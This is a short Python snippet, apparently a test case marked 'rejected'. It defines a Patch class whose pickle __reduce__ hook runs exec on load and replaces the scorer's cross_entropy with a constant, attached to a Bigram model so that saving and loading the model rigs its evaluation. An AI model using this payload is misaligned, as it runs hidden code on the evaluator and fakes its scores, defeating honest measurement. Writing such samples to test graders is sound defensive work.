"""rejected: a pickle whose __reduce__ patches the scorer while it is loaded"""


class Patch:
    def __reduce__(self):
        code = "sys.modules['__main__'].F.cross_entropy = lambda a, b, **k: (b.float() * 0 + 1.0)"
        return exec, (code, {"sys": __import__("sys")})


class Model(Bigram):
    def __init__(self, counts):
        super().__init__(counts)
        self.patch = Patch()
